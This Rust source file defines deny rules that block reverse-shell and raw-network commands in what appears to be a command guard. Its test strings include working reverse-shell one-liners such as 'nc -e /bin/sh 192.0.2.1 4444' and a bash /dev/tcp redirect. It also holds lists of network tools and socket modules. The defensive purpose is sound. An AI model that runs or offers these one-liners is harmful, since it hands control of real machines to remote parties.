//! `reverse_shell`: a shell, or a plain connection, for somebody elsewhere.

use super::args::{Spec, one_of, only_help, written_option};
use super::{Look, Rule, code};
use crate::shell::{Group, Language, Span};

const GROUP: Group = Group::ReverseShell;

/// Shells of every kind.
pub(super) const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "fish", "csh", "tcsh", "rbash", "yash", "nu", "xonsh", "elvish",
    "osh",
];

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "reverse_shell.connection_tool",
        group: GROUP,
        sentence: "tools for plain connections hand a shell to anybody; use a tool that was granted the host",
        programs: &[
            "nc",
            "ncat",
            "netcat",
            "nc.openbsd",
            "nc.traditional",
            "socat",
            "telnet",
            "pwncat",
            "cryptcat",
            "sbd",
            "websocat",
            "wscat",
            "gnutls-cli",
            "powercat",
            "rlogin",
            "rsh",
            "rexec",
            "tcpclient",
            "ucspi-tcp",
            "pnc",
            "hping3",
            "msfvenom",
            "msfconsole",
        ],
        matches: |look| if only_help(look.args()) { None } else { Some(look.program()) },
        denies: &[
            "nc -e /bin/sh 192.0.2.1 4444",
            "nc example.com 80",
            "ncat -lvp 1",
            "/usr/bin/nc -z h 1",
            "socat - tcp:example.com:80",
            "telnet example.com 25",
            "echo x | nc h 1",
            "n\\c -l 1",
            "busybox nc h 1",
        ],
        allows: &["echo nc -e /bin/sh", "nc --help", "ls nc", "grep telnet services.txt"],
    },
    Rule {
        id: "reverse_shell.tls_tool",
        group: GROUP,
        sentence: "`openssl s_client` is a plain connection; use a tool that was granted the host",
        programs: &["openssl"],
        matches: |look| {
            look.args().iter().find(|word| one_of(word, &["s_client", "s_server", "s_time"])).map(|word| word.span)
        },
        denies: &["openssl s_client -connect example.com:443", "openssl s_server -port 1"],
        allows: &["openssl rand -hex 16", "openssl dgst -sha256 f"],
    },
    Rule {
        id: "reverse_shell.interactive_shell",
        group: GROUP,
        sentence: "an interactive shell waits for somebody's commands; give the commands with `-c`",
        programs: SHELLS,
        matches: |look| {
            let spec = Spec { short: "cOo", long: &["rcfile", "init-file"] };
            // What follows `-c` belongs to the command.
            let before =
                look.args().iter().position(|word| !word.prefix().starts_with(['-', '+'])).unwrap_or(look.args().len());
            written_option(look.args().get(..before).unwrap_or_default(), spec, "is", &["rcfile", "init-file"])
                .filter(|_| !look.args().iter().any(|word| word.known() == Some("-s") && look.is_fed()))
        },
        denies: &["bash -i", "sh -i < f", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1", "/bin/zsh -il", "bash --rcfile x"],
        allows: &["bash -c ls", "grep -i x f", "bash build.sh -i", "sh -ec ls"],
    },
    Rule {
        id: "reverse_shell.named_pipe",
        group: GROUP,
        sentence: "named pipes tie a shell to a connection; use a plain pipe or a file",
        programs: &["mkfifo", "mknod"],
        matches: |look| match look.name {
            "mkfifo" => {
                if only_help(look.args()) {
                    None
                } else {
                    Some(look.program())
                }
            }
            _ => look.args().iter().find(|word| one_of(word, &["p"])).map(|word| word.span),
        },
        denies: &["mkfifo /tmp/f", "mknod f p", "mkfifo f; cat f"],
        allows: &["mkdir f", "mkfifo --help"],
    },
    Rule {
        id: "reverse_shell.module_option",
        group: GROUP,
        sentence: "the network module of a language makes plain connections; use a tool that was granted the host",
        programs: &["perl", "ruby", "python", "zsh", "zmodload", "node", "nodejs"],
        matches: |look| {
            let run_module = look.args().windows(2).find(|pair| {
                let first = |word: &crate::shell::Word| {
                    word.prefix().split('.').next().is_some_and(|name| PYTHON_MODULES.contains(&name))
                };
                look.name == "python"
                    && matches!(pair, [option, module] if option.known() == Some("-m") && first(module))
            });
            if let Some([option, _]) = run_module {
                return Some(option.span);
            }
            look.args()
                .iter()
                .find(|word| {
                    let text = word.prefix();
                    match look.name {
                        "perl" => {
                            text.starts_with("-MIO")
                                || text.starts_with("-MSocket")
                                || text.starts_with("-MLWP")
                                || text.starts_with("-mIO")
                                || text.starts_with("-MNet")
                        }
                        "ruby" => matches!(text, "-rsocket" | "-rnet/http" | "-ropen-uri" | "-ruri" | "-rpty"),
                        "zsh" | "zmodload" => text == "zsh/net/tcp" || text == "zsh/net/socket",
                        _ => false,
                    }
                })
                .map(|word| word.span)
        },
        denies: &["perl -MIO::Socket -e 1", "ruby -rsocket -e 1", "zmodload zsh/net/tcp", "python3 -m telnetlib h"],
        allows: &["perl -MList::Util -e 1", "ruby -rjson -e 1"],
    },
    Rule {
        id: "reverse_shell.socket_code",
        group: GROUP,
        sentence: "code that opens connections reaches past every gate; use a tool that was granted the host",
        programs: &[],
        matches: socket_code,
        denies: &[
            "python3 -c 'import socket,os,pty'",
            "python -c 'import os\nfrom urllib import request'",
            "python3 -c 'import requests; requests.get(u)'",
            "perl -e 'use Socket; socket(S,1,1,1)'",
            "ruby -e 'TCPSocket.new(1,2)'",
            "node -e 'require(\"net\").connect(1)'",
            "node -e 'fetch(u)'",
            "php -r '$s=fsockopen(1,2);'",
            "awk 'BEGIN{s=\"/inet/tcp/0/h/1\"}'",
            "python3 <<'EOF'\nimport socket\nEOF",
            "lua -e 'require(\"socket\")'",
            "python3 -c '__import__(\"socket\")'",
        ],
        allows: &[
            "python3 -c 'import json; print(1)'",
            "python3 -c 'print(\"import socket\")'",
            "python3 -c 'import urllib.parse'",
            "node -e 'require(\"path\")'",
            "perl -e 'print 1'",
            "awk '{print $1}' f",
            "node -e 'console.log(\"fetch(\")'",
        ],
    },
];

fn socket_code(look: &Look<'_>) -> Option<Span> {
    look.code().find_map(|text| opens_connection(text).then_some(text.word.span))
}

const PYTHON_MODULES: &[&str] = &[
    "socket",
    "http",
    "urllib",
    "urllib2",
    "urllib3",
    "requests",
    "httpx",
    "aiohttp",
    "smtplib",
    "smtpd",
    "ftplib",
    "telnetlib",
    "paramiko",
    "xmlrpc",
    "websockets",
    "websocket",
    "socketserver",
    "pty",
    "asyncio.streams",
    "ssl",
    "nntplib",
    "poplib",
    "imaplib",
    "pycurl",
    "scapy",
    "twisted",
];

fn opens_connection(text: &code::Text<'_>) -> bool {
    let whole = text.whole.as_ref();
    match text.language {
        Language::Python => {
            let bare = &text.bare;
            code::imports(bare, PYTHON_MODULES)
                || code::mentions_any(bare, &["open_connection", "create_connection", "urlopen"])
                || (code::mentions_any(bare, &["__import__", "import_module"])
                    && code::mentions_any(whole, PYTHON_MODULES))
        }
        Language::Perl => code::mentions_any(whole, &["Socket", "LWP", "HTTP::Tiny", "Net::", "INET"]),
        Language::Ruby => code::mentions_any(
            whole,
            &["TCPSocket", "UDPSocket", "TCPServer", "UNIXSocket", "Socket", "net/http", "Net::HTTP", "open-uri"],
        ),
        Language::JavaScript => {
            let bare = &text.bare;
            let modules = [
                "net",
                "http",
                "https",
                "http2",
                "dgram",
                "tls",
                "dns",
                "undici",
                "axios",
                "got",
                "ws",
                "node-fetch",
                "request",
            ];
            code::mentions_any(bare, &["fetch", "WebSocket", "axios", "XMLHttpRequest", "Deno.connect", "Bun.connect"])
                || (code::mentions_any(bare, &["require", "import", "from", "getBuiltinModule", "binding"])
                    && names_module(whole, &modules))
        }
        Language::Php => {
            code::mentions_any(
                whole,
                &["fsockopen", "pfsockopen", "stream_socket_client", "socket_create", "curl_init", "curl_exec"],
            ) || (whole.contains("://") && code::mentions_any(whole, &["file_get_contents", "fopen", "file"]))
        }
        Language::Lua => code::mentions_any(whole, &["socket", "http"]) && code::mentions(whole, "require"),
        Language::Awk => whole.contains("/inet"),
        Language::PowerShell => {
            let lower = whole.to_ascii_lowercase();
            code::mentions_any(
                &lower,
                &[
                    "tcpclient",
                    "sockets",
                    "webclient",
                    "invoke-webrequest",
                    "iwr",
                    "invoke-restmethod",
                    "irm",
                    "wget",
                    "curl",
                ],
            )
        }
        Language::Other => code::mentions_any(whole, &["socket", "Socket", "TCPSocket", "gen_tcp"]),
        _ => false,
    }
}

/// Whether a string in JavaScript names a module.
fn names_module(code: &str, modules: &[&str]) -> bool {
    code.split(['\'', '"', '`']).any(|part| modules.contains(&part.strip_prefix("node:").unwrap_or(part)))
}
